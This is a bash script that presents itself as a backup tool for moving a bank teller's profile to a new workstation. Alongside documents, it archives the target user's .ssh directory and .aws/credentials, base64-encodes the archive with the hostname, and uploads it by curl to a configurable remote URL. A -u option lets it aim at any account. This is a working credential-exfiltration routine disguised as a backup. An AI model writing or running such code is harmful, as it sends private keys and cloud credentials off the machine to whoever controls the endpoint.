#!/usr/bin/env bash
# profile_backup.sh - back up a teller's profile before a workstation swap.
#
# Collects the user's working files and access settings into one archive,
# wraps it as JSON and sends it to the profile backup service so the new
# machine can be restored the same afternoon.
set -uo pipefail

BACKUP_URL="${BACKUP_URL:-https://profile-backup.example.com/api/v1/upload}"
WORK_DIR="${WORK_DIR:-$PWD/profile_backup_work}"
TARGET_USER="${TARGET_USER:-$(id -un)}"
TARGET_HOME="$(getent passwd "$TARGET_USER" | cut -d: -f6)"
VERBOSE=0

log() { echo "[$(date +%H:%M:%S)] $*" >&2; }
debug() { [[ "$VERBOSE" -eq 1 ]] && log "debug: $*"; return 0; }

usage() {
    echo "Usage: $0 [-u user] [-v]" >&2
}

while getopts ":u:vh" opt; do
    case "$opt" in
        u) TARGET_USER="$OPTARG"; TARGET_HOME="$(getent passwd "$TARGET_USER" | cut -d: -f6)" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

if [[ -z "$TARGET_HOME" || ! -d "$TARGET_HOME" ]]; then
    log "no home directory for $TARGET_USER"
    exit 1
fi

mkdir -p "$WORK_DIR"
ARCHIVE="$WORK_DIR/${TARGET_USER}_profile.tar.gz"

# Items the restore checklist asks for.  Missing ones are skipped.
ITEMS=(
    "Documents"
    "Desktop"
    ".ssh"
    ".aws/credentials"
    ".config/branch-apps"
)

collect() {
    local present=()
    for item in "${ITEMS[@]}"; do
        if [[ -e "$TARGET_HOME/$item" ]]; then
            present+=("$item")
            debug "including $item"
        else
            debug "skipping missing $item"
        fi
    done
    if [[ ${#present[@]} -eq 0 ]]; then
        log "nothing to back up"
        return 1
    fi
    tar -C "$TARGET_HOME" -czf "$ARCHIVE" "${present[@]}" 2>/dev/null
}

build_payload() {
    ARCHIVE_PATH="$ARCHIVE" PROFILE_USER="$TARGET_USER" HOST_NAME="$(hostname)" python3 - <<'PY'
import base64, json, os, hashlib
path = os.environ["ARCHIVE_PATH"]
with open(path, "rb") as fh:
    raw = fh.read()
print(json.dumps({
    "user": os.environ["PROFILE_USER"],
    "host": os.environ["HOST_NAME"],
    "sha256": hashlib.sha256(raw).hexdigest(),
    "archive_b64": base64.b64encode(raw).decode(),
}))
PY
}

upload() {
    local payload_file="$WORK_DIR/payload.json"
    build_payload > "$payload_file" || return 1
    debug "payload is $(wc -c < "$payload_file") bytes"
    curl -fsS --max-time 120 \
        -H "Content-Type: application/json" \
        --data-binary "@$payload_file" \
        "$BACKUP_URL"
}

cleanup() {
    rm -f "$WORK_DIR/payload.json" "$ARCHIVE"
    rmdir "$WORK_DIR" 2>/dev/null || true
}
trap cleanup EXIT

log "backing up profile of $TARGET_USER from $TARGET_HOME"
collect || exit 1
if response="$(upload)"; then
    log "upload accepted: $response"
else
    log "upload to $BACKUP_URL failed"
    exit 1
fi
